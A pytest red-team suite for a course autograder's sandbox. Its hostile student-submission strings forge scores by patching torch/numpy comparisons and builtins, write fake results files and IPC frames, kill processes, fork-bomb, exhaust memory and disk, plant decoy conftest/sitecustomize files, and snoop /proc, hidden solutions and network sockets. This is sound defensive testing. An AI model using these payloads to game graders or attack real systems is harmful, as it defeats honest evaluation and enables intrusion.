"""The red-team suite: hostile and broken submissions, each graded through the real command line
in both isolation modes (bubblewrap, and the fallback used where user namespaces are refused),
each with the outcome it must get (principles 2 and 3 of DEVELOPERS.md).

Most uploads are the reference solution with some problems replaced by an attack, so that one
grade shows both halves of an outcome: the attacking problem gets what it deserves, and the
problems that did not misbehave keep full credit. The project holds five hw3 problems (neurons,
LSTM parity and the three attention problems) with a 20-second time limit.

Every grade also checks: results.json is valid against Gradescope's schema and under 1 MB, the
staff output names the isolation that was active, and nothing the submission started or wrote
is left behind (no process carrying the test's marker, no file with it in the shared temporary
folders, the grader's own temporary folder emptied).
"""
from __future__ import annotations

import json
import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import time
import tomllib
from pathlib import Path
from typing import Dict, List, Tuple

import pytest

from autograder import config as config_mod
from autograder.grade.engine import reference_source
from autograder.sandbox import NOBODY, sweep
from helpers import BUG, ROOT, by_problem, isolation_or_skip, make_project, narrowed_toml, run_cli, validate

pytestmark = pytest.mark.redteam

TIME_LIMIT = 20  # generous: the reference must pass with the machine busy; only hostile code meets it
FULL = {"neurons": 2, "lstm_parity": 3, "attention_head": 4, "multi_headed_attention": 3, "transformer": 3}
PROJECT_TOML = narrowed_toml(
    list(FULL),
    ["neurons.py", "attention.py"],
    ["hw3/hidden/neurons.py", "hw3/hidden/attention.py"],
    time_limit=TIME_LIMIT,
    memory_limit=1024,
    processes=32,
    file_limit=16,
    max_examples=5,
)
SHARED_TMP = ("/tmp", "/var/tmp", "/dev/shm")


# How long processes the grader killed may take to vanish: generous, since the machine may be busy
# with other work; only the verdict "still running after this long" is a failure, never a duration.
GONE_SECONDS = 60.0


@pytest.fixture(params=["bubblewrap", "fallback"])
def mode(request) -> str:
    return isolation_or_skip(request.param).mode


@pytest.fixture(scope="module")
def project(tmp_path_factory) -> Tuple[config_mod.Config, str]:
    path = make_project(tmp_path_factory.mktemp("redteam"), PROJECT_TOML, hidden=("neurons.py", "attention.py"))
    cfg = config_mod.load(path)
    return cfg, reference_source(cfg, cfg.assignment("hw3"))


@pytest.fixture
def marker() -> str:
    """A name the attack gives its processes and files, to look for them afterwards."""
    return "rt" + secrets.token_hex(5)


@pytest.fixture
def grader_tmp() -> Path:
    """The grader's TMPDIR: it must be empty after grading. (Under /tmp, since the sandbox's
    folders must be reachable by uid 65534, which pytest's own temporary folders are not.)"""
    folder = Path("/tmp") / ("redteam-grader-" + secrets.token_hex(4))
    folder.mkdir()
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def grade(project, mode: str, upload: Path, out: Path, grader_tmp: Path, sandboxed: bool = True) -> Tuple[dict, str]:
    """Grade ``upload`` with the CLI; the results and the staff output (the CLI's log)."""
    cfg, _ = project
    done = run_cli(
        "-v", "--config", str(cfg.path), "grade", str(upload), "--assignment", "hw3", "--results", str(out), "--isolation", mode,
        env={"TMPDIR": str(grader_tmp)}, timeout=300,
    )
    assert done.returncode == 0, done.stdout + done.stderr[-3000:]
    raw = out.read_bytes()
    assert len(raw) < 1_000_000
    results = json.loads(raw)
    validate(results)
    assert (f"isolation: {mode}" in done.stderr) == sandboxed, done.stderr[-3000:]
    assert not list(grader_tmp.iterdir()), list(grader_tmp.iterdir())
    return results, done.stderr


def grade_source(project, mode: str, source: str, tmp_path: Path, grader_tmp: Path, name: str = "my_llm_implementation.py") -> Tuple[dict, str]:
    upload = tmp_path / name
    upload.write_text(source, encoding="utf-8")
    return grade(project, mode, upload, tmp_path / "results.json", grader_tmp)


def outputs(results: dict, problem: str) -> str:
    return "\n".join(t["output"] for t in results["tests"] if t["tags"][0] == problem)


def _processes_with(marker: str) -> List[str]:
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as handle:
                cmdline = handle.read()
            with open(f"/proc/{name}/comm", "rb") as handle:
                comm = handle.read()
            with open(f"/proc/{name}/stat", "rb") as handle:
                state = handle.read().rsplit(b")", 1)[1].split()[0]
        except OSError:
            continue
        if marker.encode() in cmdline + comm and state not in (b"Z", b"X"):
            found.append(f"{name}: {comm.strip().decode()} {cmdline.replace(bytes(1), b' ').decode(errors='replace')}")
    return found


def _gone(marker: str) -> List[str]:
    """The processes with ``marker`` still running once they had GONE_SECONDS to vanish (killed
    processes disappear a moment after the kill, later on a busy machine)."""
    deadline = time.monotonic() + GONE_SECONDS
    while (processes := _processes_with(marker)) and time.monotonic() < deadline:
        time.sleep(0.1)
    return processes


def assert_nothing_left(marker: str, grader_tmp: Path) -> None:
    """No process or file of the submission outlives its grading."""
    processes = _gone(marker)
    assert not processes, processes
    files = [f"{folder}/{name}" for folder in SHARED_TMP if os.path.isdir(folder) for name in os.listdir(folder) if marker in name]
    assert not files, files
    assert not list(grader_tmp.iterdir()), list(grader_tmp.iterdir())


# ---------------------------------------------------------------------------------------------
# Forged results and tampering

TAMPER = '''
# ---- tampering at import: the grader's comparisons, Python itself, the grader's modules ----
import builtins, json, math, os, sys, types
import numpy, numpy.testing, torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
for _name in ("autograder", "autograder.checking", "autograder.checking.compare", "hypothesis", "jsonschema"):
    sys.modules[_name] = types.ModuleType(_name)
FORGED = {"score": 999, "output": "MARKER forged", "tests": [{"score": 999, "max_score": 1, "name": "MARKER forged"}]}
for _place in ("/autograder/results/results.json", "results.json", "/tmp/MARKER-results.json", "/var/tmp/MARKER-results.json",
               os.path.expanduser("~/MARKER-results.json"), "RESULTS", "RESULTS_DIR/MARKER-results.json"):
    try:
        os.makedirs(os.path.dirname(_place) or ".", exist_ok=True)
        with open(_place, "w") as _handle:
            json.dump(FORGED, _handle)
    except OSError:
        pass
print(json.dumps(FORGED))
print(json.dumps(FORGED), file=sys.stderr)

# ---- the values returned: subclasses of float, int, ndarray and Tensor that equal anything ----
class AlwaysFloat(float):
    __eq__ = __ge__ = __le__ = __gt__ = __lt__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = float.__hash__

class AlwaysInt(int):
    __eq__ = __ge__ = __le__ = __gt__ = __lt__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = int.__hash__

class AlwaysArray(numpy.ndarray):
    def __eq__(self, other):
        return numpy.ones(self.shape, dtype=bool)

class AlwaysTensor(torch.Tensor):
    def __eq__(self, other):
        return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

def and_neuron():  # wrong (it always fires), in floats that compare equal to anything
    return [AlwaysFloat(0.0), AlwaysFloat(0.0)], AlwaysFloat(5.0)

def lstm_parity_weights():  # wrong (all zero), as arrays and ints that compare equal to anything
    shapes = {"W_f": (1, 2), "b_f": (1,), "W_i": (1, 2), "b_i": (1,), "W_C": (1, 2), "b_C": (1,), "W_o": (1, 2), "b_o": (1,)}
    return {k: (numpy.zeros(s).view(AlwaysArray) if k.startswith("W") else [AlwaysInt(0)]) for k, s in shapes.items()}

class Transformer(Transformer):  # wrong (zeros), as a Tensor subclass that equals anything
    def forward(self, x, attn_mask=None, return_attn=False):
        out, attn = super().forward(x, attn_mask, return_attn)
        return torch.zeros_like(out).as_subclass(AlwaysTensor), attn
'''

TAMPER_IN_CALL = '''
# ---- while called: rewrite Python's builtins, and the sandbox's own modules ----
_lstm_parity_weights = lstm_parity_weights
def lstm_parity_weights():
    import builtins
    builtins.isinstance = lambda obj, cls: True
    builtins.type = lambda *args: AlwaysArray
    return _lstm_parity_weights()

def or_neuron():  # right, but it speaks for the fork server: "the session ended well"
    import sys
    frames = sys.modules["frames"]
    original = frames.write_frame
    def forged(fd, message, *args, **kwargs):
        original(fd, {"exit": {"code": 0, "output": "MARKER forged", "why": ""}})
        original(fd, message, *args, **kwargs)
    frames.write_frame = forged
    return [1.0, 1.0], -0.5
'''


def test_forged_results_and_tampering_change_no_score(project, mode, tmp_path, marker, grader_tmp):
    """Forged results.json anywhere, JSON on stdout, monkeypatched torch/numpy/math/builtins and
    grader modules, always-equal subclasses: the grader's own results, every wrong answer wrong."""
    _, reference = project
    out = tmp_path / "results.json"
    attack = TAMPER.replace("RESULTS_DIR", str(tmp_path)).replace("RESULTS", str(out)).replace("MARKER", marker)
    source = reference + "\n" + BUG.read_text() + attack + TAMPER_IN_CALL.replace("MARKER", marker)
    results, _ = grade_source(project, mode, source, tmp_path, grader_tmp)
    scores = by_problem(results)
    assert scores["multi_headed_attention"] == FULL["multi_headed_attention"], outputs(results, "multi_headed_attention")
    for problem in ("neurons", "lstm_parity", "attention_head", "transformer"):
        assert scores[problem] < FULL[problem], (problem, outputs(results, problem))
    assert "AlwaysTensor" in outputs(results, "transformer") and "AlwaysFloat" in outputs(results, "neurons")
    assert "grader's channel" in outputs(results, "neurons")
    # The grader's own file: its score is the sum of its tests, every test is one of its checks;
    # the forged JSON appears at most as the submission's own output, quoted in a failure message.
    assert results["score"] == pytest.approx(sum(scores.values())) and results["score"] < sum(FULL.values())
    assert marker not in results["output"]
    titles = [p["title"] for p in tomllib.loads(PROJECT_TOML)["assignments"]["hw3"]["problems"]]
    assert all(any(t["name"].startswith(f"{title}: ") for title in titles) and marker not in t["name"] for t in results["tests"])
    assert_nothing_left(marker, grader_tmp)


FORGE_FRAME = '''
def _forge(frame):
    """Write a frame on the session's own answer pipe, as the session would."""
    import gc, sys
    session = next(o for o in gc.get_objects() if type(o).__name__ == "Session" and hasattr(o, "wfd"))
    sys.modules["frames"].write_frame(session.wfd, frame)
'''

FORGE_IN_CALL = FORGE_FRAME + '''
def and_neuron():  # right, but first it asks the grader to run functions it was never given
    _forge({"callback": {"id": 0, "args": [], "kwargs": {}}})
    _forge({"callback": {"id": "x", "args": "no list"}})
    return [1.0, 1.0], -1.5
'''

FORGE_AT_IMPORT = FORGE_FRAME + '''
_forge({"callback": {"id": 0, "args": [], "kwargs": {}}})  # in place of the answer to "import the file"
'''


def test_forged_frames_change_nothing_or_say_plainly_what_happened(project, mode, tmp_path, marker, grader_tmp):
    """A session may write well-formed frames on its own answer pipe: calls of grader's functions it
    was never given are answered with an error (the grader runs nothing for them) and the session's
    next answers stay in step, so right code keeps its credit; such a frame in place of the answer
    to "import the file" ends every problem with a plain message."""
    _, reference = project
    results, _ = grade_source(project, mode, reference + FORGE_IN_CALL, tmp_path, grader_tmp)
    assert by_problem(results) == FULL, results
    results, _ = grade_source(project, mode, reference + FORGE_AT_IMPORT, tmp_path, grader_tmp)
    assert results["score"] == 0
    for problem in FULL:
        assert "wrote to the grader's channel itself" in outputs(results, problem), outputs(results, problem)
    assert_nothing_left(marker, grader_tmp)


FORGE_RAW = '''
def _forge_raw(body):
    """Write a frame's bytes on the session's own answer pipe, in place of the answer to "import"."""
    import gc, os, struct
    session = next(o for o in gc.get_objects() if type(o).__name__ == "Session" and hasattr(o, "wfd"))
    view = memoryview(struct.pack(">I", len(body)) + body)
    while view:
        view = view[os.write(session.wfd, view):]
'''

FORGED_AT_IMPORT = {  # the crashes of the grader seen before (TypeError, ValueError, 1.2 GB of memory)
    "list-as-dict-key": 'b\'{"ok": {"t": "dict", "v": [[{"t": "list", "v": []}, {"t": "none"}]]}}\'',
    "text-in-an-int-tag": 'b\'{"ok": {"t": "list", "v": [{"t": "int", "v": "and_neuron"}]}}\'',
    "16-MB-of-empty-dicts": 'b\'{"ok":[\' + b"{}," * 5_592_000 + b"{}]}"',
}


@pytest.mark.parametrize("forged", list(FORGED_AT_IMPORT))
def test_malformed_frames_at_import_get_a_plain_message_per_problem(project, mode, tmp_path, grader_tmp, forged):
    """Whatever a session writes on its own answer pipe, the grader decodes it to a value or a
    wire error, within bounded memory: every problem says plainly what happened."""
    _, reference = project
    source = reference + FORGE_RAW + f"\n_forge_raw({FORGED_AT_IMPORT[forged]})\n"
    results, _ = grade_source(project, mode, source, tmp_path, grader_tmp)
    assert results["score"] == 0
    for problem in FULL:
        assert "wrote to the grader's channel itself" in outputs(results, problem), outputs(results, problem)
    assert "Traceback" not in json.dumps(results)


PRINT_AT_IMPORT = '''
import sys as _sys
_block = ("x" * 1023 + "\\n") * 1024
for _ in range(30):  # 30 MB to each of stdout and stderr
    _sys.stdout.write(_block)
    _sys.stderr.write(_block)
'''


def test_printing_past_the_output_cap_costs_nothing_and_is_said_once(project, mode, tmp_path, grader_tmp):
    """Printing is not a mistake: past the cap (the file limit, 16 MB here) output is dropped, the
    writes succeed, and student and staff read one note."""
    _, reference = project
    results, staff = grade_source(project, mode, reference + PRINT_AT_IMPORT, tmp_path, grader_tmp)
    assert by_problem(results) == FULL, outputs(results, "neurons")[:2000]
    assert results["output"].count("printed more than 16 MB") == 1, results["output"]
    assert "printed more than 16 MB" in staff


PEEK = '''
import os as _os

def _seen():
    """Host paths in what the sandbox can read of its processes (its own command line aside, which
    in the fallback is the grader's own Python: see the README)."""
    found = []
    try:
        pids = [p for p in _os.listdir("/proc") if p.isdigit() and int(p) != _os.getpid()]
    except OSError:
        pids = []
    for pid in ["1", *pids]:
        for part in ("cmdline", "environ"):
            try:
                text = open(f"/proc/{pid}/{part}", "rb").read().decode(errors="replace")
            except OSError:
                continue
            found += [f"/proc/{pid}/{part} shows {secret}" for secret in SECRETS if secret in text]
    return found

_reference_and_neuron = and_neuron

def and_neuron(*args, **kwargs):
    found = _seen()
    if found:
        raise RuntimeError("; ".join(found)[:1500])
    return _reference_and_neuron(*args, **kwargs)
'''


def test_the_sandbox_sees_no_host_path_in_process_command_lines(project, mode, tmp_path, grader_tmp):
    """Under bubblewrap, /proc/1 is bubblewrap, whose options (binds of the virtual environment and
    of the grader's temporary folder) it read from a pipe; in the fallback, Landlock shows a session
    no process but its own. Neither shows the repository, the virtual environment or the grader's
    temporary folder."""
    _, reference = project
    secrets_ = [str(ROOT), os.path.realpath(sys.prefix), str(grader_tmp)]
    results, _ = grade_source(project, mode, reference + PEEK.replace("SECRETS", repr(secrets_)), tmp_path, grader_tmp)
    assert by_problem(results) == FULL, outputs(results, "neurons")[:2000]


# ---------------------------------------------------------------------------------------------
# Escapes

ESCAPES = '''
import os, signal, sys

def and_neuron():
    sys.exit(0)

def or_neuron():
    os.kill(-1, signal.SIGKILL)  # every process it may signal
    return [1.0, 1.0], -0.5

def lstm_parity_weights():
    os._exit(0)

class Transformer(Transformer):
    def forward(self, x, attn_mask=None, return_attn=False):
        for target in (os.getppid(), 1):  # the fork server, then init
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
        os.killpg(os.getpgid(0), signal.SIGKILL)  # its own process group
'''


def test_exits_and_kills_inside_calls_cost_only_their_problem(project, mode, tmp_path, marker, grader_tmp):
    """sys.exit, os._exit, killing the parent, init, the process group or every process: the
    problem that did it loses its points, the others (AttentionHead, MultiHeadedAttention) keep theirs."""
    _, reference = project
    results, _ = grade_source(project, mode, reference + ESCAPES, tmp_path, grader_tmp)
    scores = by_problem(results)
    for problem in ("attention_head", "multi_headed_attention"):
        assert scores[problem] == FULL[problem], outputs(results, problem)
    assert scores["neurons"] <= 1 and "raised SystemExit" in outputs(results, "neurons")
    assert scores["lstm_parity"] == 0 and "exited with status 0" in outputs(results, "lstm_parity")
    assert scores["transformer"] == 0
    assert re.search("sandbox stopped unexpectedly|was killed|ended by signal", outputs(results, "transformer")), outputs(results, "transformer")
    assert_nothing_left(marker, grader_tmp)


@pytest.mark.parametrize(
    "code, expected",
    [("import sys\nsys.exit(3)\n", "importing your file raised SystemExit"), ("import os\nos._exit(3)\n", "exited with status 3")],
    ids=["sys-exit", "os-exit"],
)
def test_exit_at_import_gets_a_plain_message(project, mode, tmp_path, grader_tmp, code, expected):
    _, reference = project
    results, _ = grade_source(project, mode, reference + "\n" + code, tmp_path, grader_tmp)
    assert results["score"] == 0
    assert all(expected in t["output"] for t in results["tests"]), results["tests"][0]["output"]


DECOY = '''
import os
for folder in ("/tmp", "/var/tmp", os.getcwd(), os.path.expanduser("~")):
    try:
        open(os.path.join(folder, "MARKER-NAME"), "w").write("this ran")
    except OSError:
        pass
raise SystemExit("NAME hijacked the grader")
'''
DECOYS = ("conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py", "torch.py", "numpy.py", "autograder.py",
          "hypothesis.py", "wire.py", "frames.py", "child.py", "confine.py", "output.py", "results.json")


def test_files_shipped_beside_the_upload_never_run(project, mode, tmp_path, marker, grader_tmp):
    """conftest.py, pytest.ini, sitecustomize.py and modules named like the grader's own, in a
    folder beside the upload: graded as if they were not there."""
    _, reference = project
    folder = tmp_path / "upload"
    (folder / "nested").mkdir(parents=True)
    (folder / "nested" / "my_llm_implementation.py").write_text(reference)
    for name in DECOYS:
        text = DECOY.replace("MARKER", marker).replace("NAME", name)
        (folder / name).write_text("[pytest]\naddopts = -p no:python\n" if name.endswith(".ini") else text)
        (folder / "nested" / name).write_text(text)
    results, _ = grade(project, mode, folder, tmp_path / "results.json", grader_tmp)
    assert by_problem(results) == FULL, [t["output"] for t in results["tests"] if t["status"] == "failed"][:1]
    assert "graded nested/my_llm_implementation.py" in results["output"]
    assert "hijacked" not in json.dumps(results)
    assert_nothing_left(marker, grader_tmp)


# ---------------------------------------------------------------------------------------------
# Exhaustion

EXHAUST = '''
import ctypes, os, sys, time
import numpy

MARK = "MARKER"
try:  # tens of MB of output at import (past the cap it is dropped; grading goes on)
    sys.stdout.write("spam " * (2560 * 1024))
    sys.stderr.write("spam " * (2560 * 1024))
except OSError:
    pass


def _name_me():
    ctypes.CDLL(None).prctl(15, MARK.encode(), 0, 0, 0)  # PR_SET_NAME: how the test finds us


def and_neuron():  # touch 8 GB of memory, 256 MB at a time (the limit here is 1 GB of address space)
    blocks = []
    for _ in range(32):
        block = numpy.empty(256 * 1024 * 1024, dtype=numpy.uint8)
        block.fill(1)
        blocks.append(block)
    return [1.0, 1.0], -1.5


def or_neuron():  # an infinite loop
    while True:
        pass


def lstm_parity_weights():  # huge files, then more of them
    chunk = b"x" * (1 << 20)
    for i in range(10 ** 6):
        for folder in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", "/"):
            try:
                with open(f"{folder}/{MARK}-{i}", "wb") as handle:
                    os.truncate(handle.fileno(), 1 << 40)  # a terabyte, sparse
            except OSError:
                pass
            try:
                with open(f"{folder}/{MARK}-{i}", "wb") as handle:
                    for _ in range(1024):  # a gigabyte, for real
                        handle.write(chunk)
            except OSError:
                pass


STARTED = []


class Transformer(Transformer):  # daemons that outlive the call, then hundreds of processes
    def forward(self, x, attn_mask=None, return_attn=False):
        if STARTED:
            raise RuntimeError(f"started {STARTED[0]} processes")
        try:  # a daemon: double fork, new session, writing files forever
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    _name_me()
                    for i in range(10 ** 9):
                        for folder in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm"):
                            try:
                                with open(f"{folder}/{MARK}-daemon-{i % 20}", "w") as handle:
                                    handle.write("x" * 100000)
                            except OSError:
                                pass
                        time.sleep(0.05)
                os._exit(0)
        except OSError:
            pass
        try:  # and one under another program's name, in its own session
            import subprocess
            subprocess.Popen(["/bin/sh", "-c", "sleep 600", MARK], start_new_session=True)
        except OSError:
            pass
        started = 0
        for _ in range(500):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                _name_me()
                time.sleep(600)
                os._exit(0)
            started += 1
        STARTED.append(started)
        raise RuntimeError(f"started {started} processes")
'''


def test_exhaustion_is_bounded_and_leaves_nothing_behind(project, mode, tmp_path, marker, grader_tmp):
    """Memory, an infinite loop, huge and many files, hundreds of processes and daemons, tens of
    MB of output: each stopped at its limit, within its own problem, and nothing outlives grading."""
    _, reference = project
    results, _ = grade_source(project, mode, reference + EXHAUST.replace("MARKER", marker), tmp_path, grader_tmp)
    scores = by_problem(results)
    for problem in ("attention_head", "multi_headed_attention"):
        assert scores[problem] == FULL[problem], outputs(results, problem)
    neurons = outputs(results, "neurons")
    assert scores["neurons"] == 0 and re.search("MemoryError|was killed", neurons) and f"time limit of {TIME_LIMIT} s" in neurons, neurons
    files = outputs(results, "lstm_parity")
    assert scores["lstm_parity"] == 0 and re.search(r"wrote more than \d+ MB of files|created more than \d+ files", files), files
    transformer = outputs(results, "transformer")
    started = re.search(r"started (\d+) processes", transformer)
    assert scores["transformer"] < FULL["transformer"] and started and 0 < int(started.group(1)) < 32, transformer[:2000]
    assert re.search("Last output of your code:\n[spam ]{900,1000}\n", neurons)  # 25 MB printed at import: a 1000-character tail
    assert_nothing_left(marker, grader_tmp)


KILLED_MIDWAY = '''
import ctypes, os, time

def and_neuron():  # a daemon, then an infinite loop: the grader is killed meanwhile
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"MARKER", 0, 0, 0)
            while True:
                time.sleep(1)
        os._exit(0)
    while True:
        pass
'''


def test_a_killed_grader_leaves_nothing_running_and_its_folder_is_swept(project, mode, tmp_path, marker, grader_tmp):
    """A grader killed mid-problem (a batch's time cap, say): the sandbox's processes end with it
    (bubblewrap dies with its parent; the fallback's fork server ends when its pipe closes), and
    the next sandbox removes the folder the dead grader left."""
    cfg, reference = project
    upload = tmp_path / "my_llm_implementation.py"
    upload.write_text(reference + KILLED_MIDWAY.replace("MARKER", marker))
    command = [sys.executable, "-m", "autograder", "--config", str(cfg.path), "grade", str(upload), "--assignment", "hw3",
               "--results", str(tmp_path / "results.json"), "--isolation", mode]
    grader = subprocess.Popen(command, cwd=ROOT, env={**os.environ, "TMPDIR": str(grader_tmp)}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while not _processes_with(marker) and time.monotonic() < deadline and grader.poll() is None:
            time.sleep(0.2)
        assert _processes_with(marker), "the daemon never started"
    finally:
        grader.kill()
        grader.wait()
    assert not _gone(marker)
    left = list(grader_tmp.iterdir())
    assert [p.name.startswith("autograder-") for p in left] == [True]
    assert sweep.sweep_stale(str(grader_tmp)) == [str(left[0])] and not list(grader_tmp.iterdir())

# ---------------------------------------------------------------------------------------------
# Snooping


def _listeners(marker: str) -> Dict[str, socket.socket]:
    """Sockets on this machine that a sandboxed submission must not reach."""
    found = {}
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(5)
    found["tcp"] = tcp
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    found["udp"] = udp
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind("\0" + marker)
    abstract.listen(5)
    found["abstract"] = abstract
    path = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    path.bind(f"/tmp/{marker}.sock")
    os.chmod(f"/tmp/{marker}.sock", 0o777)
    path.listen(5)
    found["path"] = path
    for sock in found.values():
        sock.setblocking(False)
    return found


SNOOP = '''
import os, socket, sys, time

READ = READ_LIST
LOOK_FOR = ("grading.toml", "results.json", "attention.py", "neurons.py", "ASSIGNMENT")
_FOUND = None


def _snoop():
    found = []
    if not open(__file__).read():  # the probe works: its own file is readable
        found.append("cannot read its own file")
    for path in READ:
        try:
            if os.path.isdir(path):
                found.append(f"listed {path}: {os.listdir(path)[:3]}")
            else:
                found.append(f"read {path}: {open(path, 'rb').read(40)!r}")
        except OSError:
            pass
    try:  # the fallback with Landlock shows the session only its own process
        pids = [p for p in os.listdir("/proc") if p.isdigit()][:400]
    except OSError:
        pids = []
    for pid in pids:  # other processes' views of the disk
        for path in (f"/proc/{pid}/root{READ[0]}", f"/proc/{pid}/cwd/grading.toml"):
            try:
                open(path, "rb").read(1)
                found.append(f"read {path}")
            except OSError:
                pass
        try:  # the grader's environment (the sandbox's own processes have only what it was given)
            environ = open(f"/proc/{pid}/environ", "rb").read()
            if b"PYTEST" in environ or GRADER_ROOT.encode() in environ:
                found.append(f"read the grader's environment in /proc/{pid}/environ")
        except OSError:
            pass
    started, seen = time.monotonic(), 0
    skip = {"/proc", "/sys", "/dev", "/usr", "/venv", "/packages", "/lib", "/lib64", "/bin", "/sbin"}
    for folder, subfolders, files in os.walk("/"):
        subfolders[:] = [s for s in subfolders if os.path.join(folder, s) not in skip and not os.path.join(folder, s).startswith(PYTHON_HOME)]
        seen += len(files)
        for name in files:
            if name in LOOK_FOR and not os.path.join(folder, name) == __file__:
                found.append(f"found {os.path.join(folder, name)}")
        if seen > 100000 or time.monotonic() - started > 1.5:
            break
    for family, address, kind in ADDRESSES:
        try:
            sock = socket.socket(family, kind)
        except OSError:
            continue
        found.append(f"opened a socket {family}")
        try:
            sock.settimeout(0.5)
            if kind == socket.SOCK_DGRAM:
                sock.sendto(b"MARKER", address)
            else:
                sock.connect(address)
                sock.sendall(b"MARKER")
            found.append(f"reached {address}")
        except OSError:
            pass
    return found


class AttentionHead(AttentionHead):
    def forward(self, x, attn_mask=None):
        global _FOUND
        if _FOUND is None:
            _FOUND = _snoop()
        if _FOUND:
            raise RuntimeError("found: " + "; ".join(_FOUND)[:1500])
        return super().forward(x, attn_mask)
'''


def test_snooping_finds_nothing_and_reaches_nothing(project, mode, tmp_path, marker, grader_tmp):
    """Hidden tests, reference solutions, the results folder, the network (loopback included):
    nothing read, nothing reached. The staff output says which isolation and uid were used."""
    cfg, reference = project
    results_dir = tmp_path / "results"
    results_dir.mkdir()
    (results_dir / "earlier-results.json").write_text("{}")
    read = [
        str(ROOT / "assignments" / "hw3" / "hidden" / "attention.py"), str(ROOT / "solutions" / "attention.py"), str(ROOT / "grading.toml"),
        str(cfg.root / "grading.toml"), str(cfg.root / "assignments" / "hw3" / "hidden"), str(ROOT / "assignments" / "hw3" / "corpus"),
        str(ROOT / ".git" / "config"), str(results_dir), str(results_dir / "earlier-results.json"), str(ROOT),
        "/autograder/source/grading.toml", "/autograder/results", "/autograder/submission_metadata.json", "/root",
    ]
    listeners = _listeners(marker)
    addresses = [
        ("socket.AF_INET", listeners["tcp"].getsockname(), "socket.SOCK_STREAM"),
        ("socket.AF_INET", listeners["udp"].getsockname(), "socket.SOCK_DGRAM"),
        ("socket.AF_UNIX", "\0" + marker, "socket.SOCK_STREAM"),
        ("socket.AF_UNIX", f"/tmp/{marker}.sock", "socket.SOCK_STREAM"),
        ("socket.AF_INET6", ("::1", listeners["tcp"].getsockname()[1]), "socket.SOCK_STREAM"),
    ]
    try:  # an address outside, if this machine can resolve one (the package registry)
        addresses.append(("socket.AF_INET", (socket.gethostbyname("pypi.org"), 443), "socket.SOCK_STREAM"))
    except OSError:
        pass
    address_code = "[" + ", ".join(f"({family}, {address!r}, {kind})" for family, address, kind in addresses) + "]"
    probe = (
        SNOOP.replace("READ_LIST", repr(read)).replace("ADDRESSES", address_code).replace("MARKER", marker)
        .replace("PYTHON_HOME", repr(os.path.realpath(sys.base_prefix))).replace("GRADER_ROOT", repr(str(ROOT)))
    )
    try:
        results, staff = grade_source(project, mode, reference + probe, tmp_path, grader_tmp)
        for name, sock in listeners.items():
            if name == "udp":
                with pytest.raises(BlockingIOError):
                    sock.recv(100)
            else:
                with pytest.raises(BlockingIOError):
                    sock.accept()
    finally:
        for sock in listeners.values():
            sock.close()
        os.unlink(f"/tmp/{marker}.sock")
    assert by_problem(results) == FULL, outputs(results, "attention_head")[:2000]
    if os.geteuid() == 0:
        isolation = staff.split("isolation:")[1].splitlines()[0]
        leased = re.search(r"uid (\d+)", isolation)  # the first free uid lease: other gradings may hold 65534
        assert leased and NOBODY - 63 <= int(leased.group(1)) <= NOBODY and "WARNING" not in isolation, staff[-2000:]
    assert_nothing_left(marker, grader_tmp)


# ---------------------------------------------------------------------------------------------
# Broken uploads


@pytest.mark.parametrize(
    "data, expected",
    [
        (b"def and_neuron(:\n    return [1, 1], -1.5\n", "has a syntax error at line 1, column 16"),
        (b"\n  \n", "is empty: export your code again"),
        (bytes(range(256)) * 40, "is not a text file (it holds binary data)"),
    ],
    ids=["syntax-error", "empty", "binary"],
)
def test_uploads_that_cannot_run_get_a_plain_message(project, tmp_path, grader_tmp, data, expected):
    """Nothing runs, so no sandbox starts: these do not depend on the isolation mode."""
    upload = tmp_path / "my_llm_implementation.py"
    upload.write_bytes(data)
    results, _ = grade(project, "fallback", upload, tmp_path / "results.json", grader_tmp, sandboxed=False)
    assert results["score"] == 0
    assert all(expected in t["output"] for t in results["tests"]), results["tests"][0]["output"]


def test_missing_names_wrong_signatures_and_latin1_cost_only_what_is_wrong(project, mode, tmp_path, grader_tmp):
    """A file saved as Latin-1 (accents in a comment), with one class misnamed and two functions of
    the wrong signature: graded all the same, each mistake named, the rest at full credit."""
    _, reference = project
    source = "# Réponses de l'étudiant\n" + reference.replace("class Transformer(", "class MyTransformer(") + (
        "\n\ndef and_neuron(x):\n    return [1.0, 1.0], -1.5\n"
        "\n\ndef lstm_parity_weights(hidden_size, extra):\n    return {}\n"
    )
    upload = tmp_path / "my_llm_implementation.py"
    upload.write_bytes(source.encode("latin-1", "replace"))
    results, _ = grade(project, mode, upload, tmp_path / "results.json", grader_tmp)
    scores = by_problem(results)
    assert scores == {**FULL, "neurons": 1, "lstm_parity": 0, "transformer": 0}, scores
    assert "your file defines no Transformer" in outputs(results, "transformer")
    assert "and_neuron() missing 1 required positional argument: 'x'" in outputs(results, "neurons")
    assert "lstm_parity_weights() missing 2 required positional arguments" in outputs(results, "lstm_parity")
